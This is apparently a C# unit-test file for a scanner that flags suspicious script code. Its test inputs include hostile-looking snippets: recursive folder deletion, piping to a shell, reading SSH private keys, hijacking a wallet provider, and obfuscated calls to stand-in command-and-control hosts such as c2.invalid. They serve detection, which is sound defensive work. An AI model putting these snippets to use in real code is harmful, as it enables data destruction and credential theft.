using System.Text;
using Sluice.Profiles;
using Sluice.Sources;

namespace Sluice.Tests.Sources;

public sealed class AlienContentTests
{
    private static AlienContent Of(string text) => Of(text, CodeDialect.Script);

    private static AlienContent Of(string text, CodeDialect dialect) => AlienContent.Of(Encoding.UTF8.GetBytes(text), dialect);

    [Theory]
    [InlineData("const found = /a+/.exec(text);")]
    [InlineData("retrieval(1); prefetch(2);")]
    [InlineData("const root = new Function(\"return this\")();")]
    [InlineData("// see https://docs.example/page\n/* https://other.example */\n * https://third.example/x\n")]
    [InlineData("const icon = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg1234567890abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz0123456789';")]
    [InlineData("const alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';")]
    public void What_ordinary_code_has_is_not_odd(string text) => Assert.True(Of(text).IsNothing);

    [Theory]
    [InlineData(".py", "exec(input)", "Evaluation", "evaluates text")]
    [InlineData(".js", "require('child_process')", "Process", "starts programs")]
    [InlineData(".js", "window.fetch(url)", "Network", "talks to others")]
    [InlineData(".js", "import('fs').then(f => f.rmSync(folder, { recursive: true }))", "Deletion", "deletes files")]
    [InlineData(".py", "shutil.rmtree(folder)", "Deletion", "deletes files")]
    [InlineData(".sh", "eval $x | $SHELL\n", "Process, Evaluation", "starts programs")]
    [InlineData(".js", "require('child' + '_process')", "Concealment", "hides what it loads")]
    public void What_payloads_need_is_named(string extension, string text, string marks, string told)
    {
        Assert.Equal(marks, Of(text, CodeFile.DialectOf(extension, default)).Marks.ToString());
        Assert.Contains(told, AlienTexts.Told(Of(text, CodeFile.DialectOf(extension, default))), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("window.ethereum.request = other;", "wallet-provider")]
    [InlineData("read(home + '/.ssh/id_rsa')", "ssh-keys")]
    public void So_are_the_places_that_it_knows(string text, string place)
    {
        Assert.Equal([place], Of(text).Places);
        Assert.True(Of(text).IsGrave);
    }

    [Theory]
    [InlineData("get('https:/' + '/c2.inv' + 'alid/x')")]
    [InlineData("get(atob('aHR0cHM6Ly9jMi5pbnZhbGlkL3g='))")]
    public void A_host_counts_however_it_is_written(string text) => Assert.Equal(["c2.invalid"], Of(text).Hosts);

    [Theory]
    [InlineData("// require('child_process') is not needed here\nstart();")]
    [InlineData("/* fs.rmSync(folder) */ keep(folder);")]
    public void A_comment_does_nothing(string text) => Assert.True(Of(text).IsNothing);

    [Fact]
    public void Hosts_in_code_are_named_and_encoded_text_is_measured()
    {
        var hidden = Convert.ToHexStringLower(Enumerable.Range(0, 150).Select(i => (byte)(i * 91)).ToArray());
        var alien = Of($"send('HTTP://Collect.Example.Invalid:8080/x', '{hidden}')");

        Assert.Equal(["collect.example.invalid"], alien.Hosts);
        Assert.Equal(300, alien.LongestLiteral);
        Assert.Equal(2, alien.Weight);
    }
}
